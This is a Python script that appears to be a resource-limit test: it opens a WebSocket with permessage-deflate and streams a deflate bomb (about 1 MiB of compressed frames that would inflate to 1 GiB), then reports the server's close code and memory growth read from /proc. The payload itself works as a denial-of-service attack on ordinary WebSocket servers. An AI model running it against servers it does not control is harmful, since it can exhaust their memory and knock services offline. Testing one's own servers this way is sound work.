#!/usr/bin/env python3
"""A deflate bomb against a running server: 1 KiB frames of one message that would inflate to
1 GiB (1 MiB of zeros compresses to about 1 KiB; its sync-flushed form repeated 1,024 times is a
valid stream). Sends frames until the server closes, then prints one RESULT line (JSON): the
close code, the compressed bytes sent, and the server's VmRSS/VmHWM (from /proc/PID/status)
before the bomb and after its close.

usage: deflate-bomb.py HOST:PORT SERVER_PID [TIMEOUT_S]
Every socket operation is bounded by TIMEOUT_S (default 10).
"""
import base64
import json
import os
import socket
import struct
import sys
import time
import zlib


def status_kib(pid, field):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field):
                return int(line.split()[1])
    raise SystemExit(f"no {field} for pid {pid}")


def frame(fin, rsv1, opcode, payload):
    # Masked with key 0 (valid: the payload goes as is).
    b0 = (0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode
    n = len(payload)
    if n < 126:
        head = struct.pack("!BB", b0, 0x80 | n)
    elif n < 65536:
        head = struct.pack("!BBH", b0, 0x80 | 126, n)
    else:
        head = struct.pack("!BBQ", b0, 0x80 | 127, n)
    return head + b"\0\0\0\0" + payload


def read_exact(sock, n):
    out = b""
    while len(out) < n:
        chunk = sock.recv(n - len(out))
        if not chunk:
            raise SystemExit(f"connection closed after {len(out)} of {n} bytes")
        out += chunk
    return out


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    pid = int(sys.argv[2])
    timeout = float(sys.argv[3]) if len(sys.argv) > 3 else 10.0
    c = zlib.compressobj(9, zlib.DEFLATED, -15, 8)
    block = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_SYNC_FLUSH)
    assert block.endswith(b"\0\0\xff\xff")
    copies = 1024

    sock = socket.create_connection((host, int(port)), timeout=timeout)
    sock.settimeout(timeout)
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall(
        (
            f"GET / HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
            "Sec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
        ).encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(4096)
        if not chunk:
            raise SystemExit("closed during the handshake")
        head += chunk
    head, rest = head.split(b"\r\n\r\n", 1)
    if not head.startswith(b"HTTP/1.1 101") or b"permessage-deflate" not in head.lower():
        raise SystemExit(f"no deflate upgrade: {head!r}")
    time.sleep(0.5)
    rss_before, hwm_before = status_kib(pid, "VmRSS:"), status_kib(pid, "VmHWM:")

    sent = 0
    start = time.monotonic()
    broken = False
    for copy in range(copies):
        for j in range(0, len(block), 1024):
            piece = block[j : j + 1024]
            first = copy == 0 and j == 0
            last = copy == copies - 1 and j + 1024 >= len(block)
            try:
                sock.sendall(frame(last, first, 0x2 if first else 0x0, piece))
            except OSError:
                broken = True
                break
            sent += len(piece)
        if broken:
            break
        # Past the server's answer? Look without waiting.
        sock.setblocking(False)
        try:
            peek = sock.recv(1, socket.MSG_PEEK)
        except BlockingIOError:
            peek = b""
        sock.settimeout(timeout)
        if peek or rest:
            break

    # The close frame (server frames are unmasked).
    buf = rest + read_exact(sock, max(0, 2 - len(rest)))
    b0, b1 = buf[0], buf[1]
    buf = buf[2:]
    n = b1 & 0x7F
    if n == 126:
        buf += read_exact(sock, max(0, 2 - len(buf)))
        n, buf = struct.unpack("!H", buf[:2])[0], buf[2:]
    elif n == 127:
        buf += read_exact(sock, max(0, 8 - len(buf)))
        n, buf = struct.unpack("!Q", buf[:8])[0], buf[8:]
    if len(buf) < n:
        buf += read_exact(sock, n - len(buf))
    opcode = b0 & 0x0F
    code = struct.unpack("!H", buf[:2])[0] if opcode == 0x8 and n >= 2 else None
    elapsed = time.monotonic() - start
    time.sleep(0.5)
    rss_after, hwm_after = status_kib(pid, "VmRSS:"), status_kib(pid, "VmHWM:")
    sock.close()
    result = {
        "opcode": opcode,
        "close_code": code,
        "compressed_bytes_sent": sent,
        "would_inflate_to": copies << 20,
        "seconds": round(elapsed, 3),
        "rss_before_kib": rss_before,
        "rss_after_kib": rss_after,
        "hwm_before_kib": hwm_before,
        "hwm_after_kib": hwm_after,
        "peak_growth_bytes": (hwm_after - hwm_before) * 1024,
    }
    print(
        f"bomb: close {code} after {sent} compressed bytes in {elapsed:.2f} s; server peak RSS "
        f"grew {(hwm_after - hwm_before) / 1024:.1f} MiB (RSS {rss_before} -> {rss_after} KiB)"
    )
    print("RESULT " + json.dumps(result))


if __name__ == "__main__":
    main()
